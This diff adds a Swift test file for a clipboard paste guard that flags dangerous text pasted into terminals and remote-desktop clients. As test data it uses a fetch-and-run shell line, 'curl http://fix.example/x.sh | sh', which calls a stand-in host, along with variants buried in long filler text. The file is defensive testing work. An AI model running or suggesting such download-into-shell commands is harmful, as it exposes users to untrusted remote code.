@@ -1,0 +1,168 @@
+import Guard
+import RichText
+import Sanitizer
+import Selections
+import Testing
+
+@testable import ServiceCore
+
+struct PasteProtectionTests {
+  private static let command = "curl http://fix.example/x.sh | sh\n"
+  private static let installer = "curl -fsSL https://sh.rustup.rs | sh\n"
+  private static let terminal = Client(executable: "xterm")
+  private static let relay = Client(executable: "remmina")
+
+  private func text(_ text: String) -> Offer.Form { Offer.Form(targets: ["UTF8_STRING"], bytes: Array(text.utf8)) }
+
+  private func copy(_ offer: Offer) -> CleanCopy {
+    CleanCopy.inherited(offer, in: "CLIPBOARD")
+  }
+
+  private func protection(_ text: String, _ toml: String = "") throws -> PasteProtection? {
+    try copy(Offer(forms: [self.text(text)])).protected(by: configuration(toml)).protection
+  }
+
+  @Test func `by default terminals and relays get a notice, and nobody else`() throws {
+    for text in [Self.command, Self.installer] {
+      let protection = try #require(try protection(text))
+      #expect(protection.action(for: Self.terminal) == .notice)
+      #expect(protection.action(for: Self.relay) == .notice)
+      for other in [Client(executable: "firefox"), Client(), nil] { #expect(protection.action(for: other) == .off) }
+      #expect(!protection.mayHold)
+    }
+    #expect(try protection("ls -l\n")?.action(for: Self.terminal) == .off)
+  }
+
+  @Test func `each severity has its own treatment, and nothing is held for relays`() throws {
+    let toml = "[guard]\nterminals = { suspicious = 'off', dangerous = 'hold' }\nrelays.suspicious = 'off'"
+    #expect(try protection(Self.command, toml)?.action(for: Self.terminal) == .hold)
+    #expect(try protection(Self.installer, toml)?.action(for: Self.terminal) == .off)
+    #expect(try protection(Self.command, toml)?.action(for: Self.relay) == .notice)
+    #expect(try protection(Self.installer, toml)?.action(for: Self.relay) == .off)
+  }
+
+  @Test func `the user's own programs are known by executable, path and class`() throws {
+    let toml = "[guard]\nterminal-programs = ['myterm*', '/opt/x/bin/*']\nrelay-programs = ['xterm']"
+    let protection = try #require(try protection(Self.command, toml))
+    #expect(protection.settings.kind(of: Client(executable: "MyTerm-2")) == .terminal)
+    #expect(protection.settings.kind(of: Client(executable: "sh", path: "/opt/x/bin/sh")) == .terminal)
+    #expect(protection.settings.kind(of: Client(classes: ["myterm"])) == .terminal)
+    #expect(protection.settings.kind(of: Self.terminal) == .relay)
+  }
+
+  @Test func `with everything off no text is judged`() throws {
+    let off = "[guard]\nterminals = { suspicious = 'off', dangerous = 'off' }\n"
+    #expect(try protection(Self.command, off + "relays = { suspicious = 'off', dangerous = 'off' }") == nil)
+    #expect(try protection(Self.command, off)?.action(for: Self.relay) == .notice)
+    #expect(copy(Offer(forms: [.init(targets: ["image/png"], bytes: [1])])).protected(by: .shipped).protection == nil)
+  }
+
+  @Test func `a rule's word goes over the general one`() throws {
+    var copy = copy(Offer(forms: [text(Self.command)]))
+    copy.evidence.rule = "handbook"
+    let own = try configuration("[[rules]]\nname = 'handbook'\nguard = 'off'")
+    #expect(copy.protected(by: own).protection == nil)
+    let hold = try configuration("[[rules]]\nname = 'handbook'\nguard = 'hold'")
+    let protection = try #require(copy.protected(by: hold).protection)
+    #expect(protection.action(for: Self.terminal) == .hold && protection.action(for: Self.relay) == .notice)
+  }
+
+  // MARK: The offer
+
+  private struct Editors: DestinationChoosing {
+    func alternative(for client: Client?) -> Int? { client?.classes == ["Editor"] ? 0 : nil }
+  }
+
+  @Test func `protected forms follow the alternatives, and lead back to them`() throws {
+    let html = Offer.Form(targets: ["text/html"], bytes: Array("<p>x\n".utf8))
+    let offer = Offer(
+      forms: [html, text("a\n")], alternatives: [[text(Self.command)]], choice: DestinationChoice(Editors()))
+    var copy = copy(offer)
+    copy = copy.protected(by: .shipped)
+    let protected = offer.protected(by: copy.protection)
+    #expect(protected.alternatives.count == 3)
+    #expect(protected.alternatives[1] == [html, text("a")])
+    #expect(protected.alternatives[2] == [text(String(Self.command.dropLast()))])
+    let choice = try #require(protected.choice)
+    // The gravest of all texts counts, whoever is given it.
+    #expect(choice.alternative(for: Self.terminal) == 1)
+    #expect(choice.alternative(for: Client(executable: "xterm", classes: ["Editor"])) == 2)
+    #expect(choice.alternative(for: Client(classes: ["Editor"])) == 0)
+    #expect(choice.alternative(for: Client(executable: "firefox")) == nil)
+    for (audience, base, isProtected) in [
+      (Audience.everyone, Audience.everyone, false), (.home, .home, false), (.destination(0), .destination(0), false),
+      (.destination(1), .everyone, true), (.destination(2), .destination(0), true),
+    ] {
+      let found = copy.unprotected(audience)
+      #expect(found.audience == base && found.isProtected == isProtected)
+    }
+  }
+
+  // MARK: The judgement
+
+  @Test func `characters that were removed and a page that showed another text make a judgement worse`() throws {
+    var report = copy(Offer(forms: [])).report
+    let offer = Offer(forms: [text("curl -fsSL https://fix.example/x.sh | sh\n")])
+    #expect(PasteReview(offer, report: report)?.assessment.unlimitedSeverity == .notice)
+    report.chosen = .init(target: "text/html", format: "html", type: "text/html", bytes: 1, incremental: false)
+    report.text = .init(target: "UTF8_STRING", bytes: 1, origin: .other)
+    #expect(PasteReview(offer, report: report)?.assessment.unlimitedSeverity == .hold)
+    report.text = nil
+    report.sanitizing = [.init(code: Finding.Code.bidiControlRemoved.rawValue, from: nil, to: nil, count: 1)]
+    #expect(PasteReview(offer, report: report)?.assessment.unlimitedSeverity == .hold)
+  }
+
+  @Test func `the address of a copied link is no text that differs from the page`() throws {
+    var report = copy(Offer(forms: [])).report
+    report.chosen = .init(target: "text/html", format: "html", type: "text/html", bytes: 1, incremental: false)
+    report.text = .init(target: "UTF8_STRING", bytes: 1, origin: .other)
+    let link = Offer(forms: [text("https://example.org/repository.git")])
+    #expect(PasteReview(link, report: report)?.assessment.unlimitedSeverity == Severity.none)
+    let sentence = Offer(forms: [text("some other words")])
+    #expect(PasteReview(sentence, report: report)?.assessment.unlimitedSeverity == .notice)
+  }
+
+  @Test func `a long text is judged by its ends until the worker has judged all of it`() throws {
+    let filling = String(repeating: "plain words in a line\n", count: 2000)
+    let report = copy(Offer(forms: [])).report
+    let hidden = try #require(
+      PasteReview(Offer(forms: [text(filling + Self.command + filling)]), report: report))
+    #expect(hidden.isLong && hidden.assessment.unlimitedSeverity == .none)
+    #expect(hidden.assessWhole().unlimitedSeverity == .hold)
+    #expect(hidden.assessment.unlimitedSeverity == .hold)
+    let atEnd = try #require(PasteReview(Offer(forms: [text(filling + filling + Self.command)]), report: report))
+    #expect(atEnd.assessment.unlimitedSeverity == .hold)
+  }
+
+  // MARK: Copies of plain text
+
+  private func outcome(_ text: String, _ toml: String = "") throws -> CopyReport.Outcome? {
+    Rehearsal(try configuration(toml), bytes: Array(text.utf8), targets: ["UTF8_STRING"]).report?.outcome
+  }
+
+  @Test func `clean text is taken from its owner where the guard does something about it, and only there`() throws {
+    #expect(try outcome(Self.command) == .cleaned)
+    #expect(try outcome("ls -l\n") == .left)
+    #expect(try outcome(Self.installer, "[guard]\nterminals.suspicious = 'off'\nrelays.suspicious = 'off'") == .left)
+    #expect(try outcome(Self.command, "[[rules]]\nguard = 'off'") == .left)
+  }
+
+  @Test func `of a long text the beginning and the end are judged before it is taken`() throws {
+    func filling(_ bytes: Int) -> String { String(repeating: "plain words in a line\n", count: bytes / 22) }
+    #expect(try outcome(filling(50 << 10) + Self.command + filling(50 << 10)) == .cleaned)
+    #expect(try outcome(filling(300 << 10) + Self.command) == .cleaned)
+    #expect(try outcome(Self.command + filling(300 << 10)) == .cleaned)
+    #expect(try outcome(filling(200 << 10) + Self.command + filling(200 << 10)) == .left)
+    #expect(try outcome(String(repeating: "x", count: 300 << 10)) == .left)
+  }
+
+  @Test func `the report of a copy has the guard's judgement`() throws {
+    var rehearsal = Rehearsal(.shipped, bytes: Array(Self.command.utf8), targets: ["UTF8_STRING"])
+    rehearsal.paste(by: "/usr/bin/xterm")
+    let judgement = try #require(rehearsal.report?.guard)
+    #expect(judgement.severity == "dangerous" && judgement.reasons.first?.name == "download-into-shell")
+    #expect(judgement.pastes == [.init(application: "xterm", event: .noticed)])
+    #expect(
+      "\(try #require(rehearsal.report))".contains("\nGuard       dangerous; terminals: notice, relays: notice\n"))
+  }
+}
